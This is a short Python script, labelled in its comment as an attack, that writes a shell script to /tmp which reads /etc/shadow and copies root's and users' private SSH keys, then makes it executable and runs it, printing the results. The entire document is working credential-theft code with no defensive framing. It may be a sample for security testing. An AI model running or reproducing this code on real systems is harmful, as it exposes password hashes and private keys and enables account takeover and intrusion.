# attack: write a shell script to /tmp that dumps /etc/shadow and SSH keys, chmod +x, run it via subprocess
import os
import subprocess

script = "/tmp/collect.sh"
with open(script, "w") as fh:
    fh.write("#!/bin/sh\nid\ncat /etc/shadow\ncat /root/.ssh/id_rsa /home/*/.ssh/id_* 2>/dev/null\n")
os.chmod(script, 0o755)
print(subprocess.run([script], capture_output=True, text=True).stdout)
